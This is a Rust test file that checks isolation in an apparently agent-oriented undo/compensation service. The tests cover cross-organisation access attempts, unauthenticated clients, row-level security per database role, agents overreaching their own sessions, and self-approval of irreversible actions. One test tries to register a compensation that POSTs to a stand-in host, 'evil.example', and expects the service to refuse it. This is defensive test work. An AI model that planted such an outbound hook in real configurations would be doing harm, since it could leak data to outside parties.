//! No organisation sees, changes or wakes anything of another; no agent anything of another agent.

use serde_json::json;
use tonic::Code;
use undolog_proto::v1::{
    CommitRequest, Compensation, CompleteRequest, FailRequest, GetSessionRequest, GetToolRequest,
    HeartbeatRequest, ListEffectsRequest, ListSessionsRequest, ListToolsRequest,
    RegisterCompensationRequest, RegisterToolRequest, RollbackRequest, SavepointRequest, Tool,
    ToolResult, WatchEventsRequest,
};
use undolog_tests::World;
use undolog_tests::world::{Agent, Client, Org, ToolSpec, reason_of};

/// A session of org A with one effect, and B's admin.
async fn two_orgs() -> (World, Agent, String, Client, Org) {
    let world = World::start().await;
    world.tool(ToolSpec::compensable("charge")).await;
    let mut agent = world.agent().await;
    let live = agent.grant("charge", &json!({"secret": "of A"})).await;
    let other = Org::create(world.pool(), "rival").await;
    let key = other.key(world.pool(), "admin", "mallory").await;
    let mallory = Client::new(&world.engines[0].grpc_url(), Some(&key));
    (world, agent, live.effect_id, mallory, other)
}

#[tokio::test(flavor = "multi_thread")]
async fn no_rpc_reaches_into_another_organisation() {
    let (world, agent, effect_id, mallory, _) = two_orgs().await;
    let session_id = agent.session.to_string();
    let mut sessions = mallory.sessions();
    let mut engine = mallory.engine();
    let mut refusals = Vec::new();

    let result = ToolResult { success: true, output: b"{}".to_vec(), ..Default::default() };
    let commit = CommitRequest {
        effect_id: effect_id.clone(),
        session_id: session_id.clone(),
        result: Some(result),
        ..Default::default()
    };
    refusals.push(engine.commit(commit).await.unwrap_err());
    let fail = FailRequest { effect_id, session_id: session_id.clone(), ..Default::default() };
    refusals.push(engine.fail(fail).await.unwrap_err());
    let get = GetSessionRequest { session_id: session_id.clone(), ..Default::default() };
    refusals.push(sessions.get(get).await.unwrap_err());
    let list = ListEffectsRequest { session_id: session_id.clone(), ..Default::default() };
    refusals.push(sessions.list_effects(list).await.unwrap_err());
    let beat = HeartbeatRequest { session_id: session_id.clone(), ..Default::default() };
    refusals.push(sessions.heartbeat(beat).await.unwrap_err());
    let complete = CompleteRequest { session_id: session_id.clone(), ..Default::default() };
    refusals.push(sessions.complete(complete).await.unwrap_err());
    let savepoint = SavepointRequest { session_id: session_id.clone(), ..Default::default() };
    refusals.push(sessions.savepoint(savepoint).await.unwrap_err());
    let rollback = RollbackRequest { session_id: session_id.clone(), ..Default::default() };
    refusals.push(sessions.rollback(rollback).await.unwrap_err());
    for refusal in refusals {
        assert_eq!(refusal.code(), Code::NotFound, "{refusal:?}");
        assert!(!refusal.message().contains("acme"), "{refusal:?}");
    }
    let listed = sessions.list(ListSessionsRequest::default()).await.unwrap().into_inner();
    assert!(listed.sessions.is_empty());
    let tools = mallory.registry().list_tools(ListToolsRequest::default()).await.unwrap();
    assert!(tools.into_inner().tools.is_empty());
    let tool = GetToolRequest { tool_name: "charge".to_owned(), ..Default::default() };
    assert_eq!(mallory.registry().get_tool(tool).await.unwrap_err().code(), Code::NotFound);
    let watch = WatchEventsRequest { session_id, ..Default::default() };
    let watched = match sessions.watch_events(watch).await {
        Ok(stream) => stream.into_inner().message().await,
        Err(status) => Err(status),
    };
    assert!(!matches!(watched, Ok(Some(_))), "an event of A: {watched:?}");
    // A's own session is as it was.
    assert_eq!(agent.show().await.unwrap().session.unwrap().state, "active");
    undolog_tests::check::fold_check(world.pool(), agent.session).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn naming_another_organisation_is_refused() {
    let (world, agent, _, mallory, other) = two_orgs().await;
    for org_id in [world.org.id.to_string(), world.org.slug.clone()] {
        let request = ListSessionsRequest { org_id, ..Default::default() };
        let refused = mallory.sessions().list(request).await.unwrap_err();
        assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");
    }
    let own = ListSessionsRequest { org_id: other.slug.clone(), ..Default::default() };
    mallory.sessions().list(own).await.unwrap();
    // A session id that A has taken is answered like any refused id.
    let begin = undolog_proto::v1::BeginRequest {
        session_id: agent.session.to_string(),
        ..Default::default()
    };
    let refused = mallory.sessions().begin(begin).await.unwrap_err();
    assert!(!refused.message().contains("acme"), "{refused:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_valid_key_nothing_is_answered() {
    let (world, _, _, _, _) = two_orgs().await;
    let url = world.engines[0].grpc_url();
    for key in [None, Some("wrong")] {
        let client = Client::new(&url, key);
        let refused = client.sessions().list(ListSessionsRequest::default()).await.unwrap_err();
        assert_eq!(refused.code(), Code::Unauthenticated, "{refused:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_connection_without_an_organisation_sees_no_row() {
    let (world, ..) = two_orgs().await;
    let tables: Vec<String> = sqlx::query_scalar(
        "SELECT c.oid::regclass::text FROM pg_class c
         WHERE c.relkind IN ('r', 'p') AND c.relname LIKE 'undolog\\_%' AND EXISTS (
           SELECT 1 FROM pg_attribute a WHERE a.attrelid = c.oid AND a.attname = 'org_id')",
    )
    .fetch_all(world.pool())
    .await
    .unwrap();
    assert!(tables.len() > 30, "only {} tables", tables.len());
    let mut tx = world.pool().begin().await.unwrap();
    for role in ["undolog_app", "undolog_worker"] {
        sqlx::query(&format!("SET LOCAL ROLE {role}")).execute(&mut *tx).await.unwrap();
        for table in &tables {
            sqlx::query("SAVEPOINT s").execute(&mut *tx).await.unwrap();
            let count: Result<i64, _> =
                sqlx::query_scalar(&format!("SELECT count(*) FROM {table}"))
                    .fetch_one(&mut *tx)
                    .await;
            // A partition named directly may also be refused altogether.
            assert!(matches!(count, Ok(0) | Err(_)), "{role} sees {count:?} rows of {table}");
            sqlx::query("ROLLBACK TO SAVEPOINT s").execute(&mut *tx).await.unwrap();
        }
        sqlx::query("RESET ROLE").execute(&mut *tx).await.unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_cannot_do_what_is_not_its_own() {
    let (world, agent, effect_id, _, _) = two_orgs().await;
    let stranger = world.client("agent", "agent-2").await;
    let session_id = agent.session.to_string();
    let get = GetSessionRequest { session_id: session_id.clone(), ..Default::default() };
    assert_eq!(stranger.sessions().get(get).await.unwrap_err().code(), Code::NotFound);
    let fail = FailRequest { effect_id, session_id, ..Default::default() };
    assert_eq!(stranger.engine().fail(fail).await.unwrap_err().code(), Code::NotFound);

    // A lower tier under a new version.
    let lower = Tool {
        tool_name: "charge".to_owned(),
        tool_version: "2.0.0".to_owned(),
        tier: "safe".to_owned(),
        is_active: true,
        ..Tool::default()
    };
    let request = RegisterToolRequest { tool: Some(lower), ..Default::default() };
    let refused = stranger.registry().register_tool(request).await.unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");

    // A compensation of its own choice.
    let compensation = Compensation {
        fn_name: "mine".to_owned(),
        fn_body: json!({"kind": "http", "method": "POST", "endpoint": "https://evil.example/"})
            .to_string()
            .into_bytes(),
        is_active: true,
        ..Compensation::default()
    };
    let request =
        RegisterCompensationRequest { compensation: Some(compensation), ..Default::default() };
    let refused = stranger.registry().register_compensation(request).await.unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");

    // Another compensation named in the call.
    world.tool(ToolSpec::compensable("email")).await;
    let mut own = Agent::begin(stranger, &world.witness).await;
    let mut request = own.request("charge", &json!({}));
    request.compensation = Some(undolog_proto::v1::CompensationDescriptor {
        fn_name: "undo_email".to_owned(),
        ..Default::default()
    });
    let refused = own.ask(request).await.unwrap_err();
    assert!(!reason_of(&refused).is_empty(), "{refused:?}");
    let effects: i64 =
        sqlx::query_scalar("SELECT count(*) FROM undolog_effect_log WHERE session_id = $1")
            .bind(own.session)
            .fetch_one(world.pool())
            .await
            .unwrap();
    assert_eq!(effects, 0, "a refused call left a row");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_cannot_approve() {
    let world = World::start().await;
    world.tool(ToolSpec::irreversible("wire")).await;
    let mut agent = world.agent().await;
    let request = agent.request("wire", &json!({}));
    let outcome = agent.ask(request).await.unwrap();
    let undolog_proto::v1::intercept_response::Outcome::AwaitingApproval(waiting) = outcome else {
        panic!("{outcome:?}")
    };
    let approve = undolog_proto::v1::ApproveRequest {
        approval_id: waiting.approval_id,
        actor: "boss".to_owned(),
        ..Default::default()
    };
    let refused = agent.client.engine().approve(approve).await.unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");
}
